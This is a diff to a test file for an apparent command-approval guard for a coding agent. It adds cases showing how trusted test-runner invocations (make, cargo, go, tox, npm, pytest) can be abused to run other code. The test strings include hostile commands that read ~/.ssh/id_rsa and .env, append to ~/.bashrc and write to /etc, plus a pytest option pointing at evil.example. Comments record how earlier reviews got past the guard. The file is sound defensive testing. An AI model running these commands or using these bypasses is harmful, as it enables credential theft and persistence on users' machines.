@@ -178,9 +178,11 @@ describe("heredocs whose end bash finds elsewhere are unparsed", () => {
 		["cat <<EOF\n$\\\n(touch x)\nEOF"],
 		// An eighteenth review: bash reads `${…}` and `$[…]` in a delimiter as one unit, blanks included, so the body
 		// ends a line earlier than a parser that stops the word at the blank.
+		// biome-ignore lint/suspicious/noTemplateCurlyInString: bash text, not a template
 		["cat <<'a'${x y}\na${x y}\ncat ~/.ssh/id_rsa .env; echo pwned > $HOME/MARKER\na${x\necho }"],
 		["cat <<\\q$[x y]\nq$[x y]\necho evil >> ~/.bashrc\nq$[x\necho ]"],
 		["cat <<E`x y`\nE`x y`\ntouch /etc/x\nE`x\necho `"],
+		// biome-ignore lint/suspicious/noTemplateCurlyInString: bash text, not a template
 		['cat <<"E${x y}"\nbody\nE${x y}\ntouch /etc/x'],
 		// bash 5.2 does not read a waiting heredoc's body at a newline inside `<(…)` or `$(…)`: it runs those lines.
 		["cat <<'E' <(pwd\ncat ~/.ssh/id_rsa; echo pwned > $HOME/MARKER2\nE\n)"],
@@ -1083,5 +1085,82 @@ describe("what a seventeenth review got past trusted commands", () => {
 		["npm test -- --runInBand --testPathPattern=src", "allow:trusted-command"],
 	])("%j → %s", (command, expected) => {
 		expect(decide(command, TRUSTED_RUNNERS)).toBe(expected);
+	});
+});
+
+describe("what an eighteenth review got past trusted commands: runner options that run other code", () => {
+	const runners = floorContextFor(
+		applyGuardianDefaults({
+			mode: "enforce",
+			trustedCommands: [
+				"pytest",
+				"npm test",
+				"npm run test",
+				"python <workspace file>",
+				"python -m pytest",
+				"cargo test",
+				"go test ./...",
+				"make test",
+				"tox",
+			],
+		}),
+		CWD,
+		HOME,
+		{ gitConfig: "safe", gitHooks: "none" },
+	);
+	it.each<[string, string]>([
+		// make: makefile text on the command line, a makefile from stdin, variable overrides.
+		["make test -E 'test: pwn' -E 'pwn: ; cd ; echo x >> .bashrc'", "review:not-read-only"],
+		["make test -sE 'pwn: ; id'", "review:not-read-only"],
+		["make test '--eval=x:;>/tmp/x'", "review:not-read-only"],
+		["make test --ev=x", "review:not-read-only"],
+		["make test -f - <<< 'test: ; id'", "review:not-read-only"],
+		["make test --file=Makefile.other", "review:not-read-only"],
+		["make test '.SHELLFLAGS=-c cd;echo x>>.bashrc;'", "review:not-read-only"],
+		["make test CC=curl", "review:not-read-only"],
+		// cargo: a runner or wrapper set through --config, unstable -Z flags.
+		[`cargo test --config 'target.x86_64-unknown-linux-gnu.runner=["sh","-c","id"]'`, "review:not-read-only"],
+		["cargo test --config='build.rustc-wrapper=\"curl\"'", "review:not-read-only"],
+		["cargo test -Zunstable-options", "review:not-read-only"],
+		// go: programs named by -exec, -toolexec, -vettool or the linker flags.
+		["go test ./... -exec 'sh -c id'", "review:not-read-only"],
+		["go test ./... -toolexec=id", "review:not-read-only"],
+		["go test ./... --exec=curl", "review:not-read-only"],
+		["go test ./... -ldflags=-extld=curl", "review:not-read-only"],
+		// tox: commands overridden.
+		["tox -x testenv.commands=id", "review:not-read-only"],
+		["tox --override=testenv.commands=id", "review:not-read-only"],
+		["tox --overr testenv.commands=id", "review:not-read-only"],
+		// npm expands a setting's unambiguous prefix.
+		["npm test --node-opt --inspect=0.0.0.0:9229", "review:not-read-only"],
+		["npm test --script-sh=python3", "review:not-read-only"],
+		["npm run test --userconf x", "review:not-read-only"],
+		// pytest: installed tests, uploads, plugins and warning categories that import a module.
+		["pytest --pyargs test.test_urllib2net", "review:not-read-only"],
+		["pytest --pastebin=all tests", "review:not-read-only"],
+		["pytest --benchmark-storage=elasticsearch+http://evil.example:9200/i/d", "review:not-read-only"],
+		["pytest -q -p this tests", "review:not-read-only"],
+		["pytest -pthis tests", "review:not-read-only"],
+		["pytest -vp antigravity tests", "review:not-read-only"],
+		["python -m pytest -p this tests", "review:not-read-only"],
+		["pytest -W error::this.X tests", "review:not-read-only"],
+		["pytest --pythonwarnings=error::antigravity.X", "review:not-read-only"],
+		["pytest -o 'filterwarnings=error::this.X'", "review:not-read-only"],
+		["PYTHONWARNINGS=ignore::antigravity.X pytest", "review:environment"],
+		// What test runs usually hold still passes.
+		["make test", "allow:trusted-command"],
+		["make test -j4 -k", "allow:trusted-command"],
+		["cargo test --release -- --nocapture", "allow:trusted-command"],
+		["go test ./... -run TestX -count=1 -v", "allow:trusted-command"],
+		["tox -e py311", "allow:trusted-command"],
+		["npm test -- --watch=false", "allow:trusted-command"],
+		["pytest -p no:cacheprovider -rA tests", "allow:trusted-command"],
+		["pytest -rp -x tests", "allow:trusted-command"],
+		["pytest -W ignore::DeprecationWarning tests", "allow:trusted-command"],
+		["pytest -W ignore::pytest.PytestRemovedIn8Warning tests", "allow:trusted-command"],
+		["PYTHONWARNINGS=ignore::pytest.PytestRemovedIn8Warning pytest tests", "allow:trusted-command"],
+		["python -m pytest -x tests", "allow:trusted-command"],
+	])("%j → %s", (command, expected) => {
+		expect(decide(command, runners)).toBe(expected);
 	});
 });
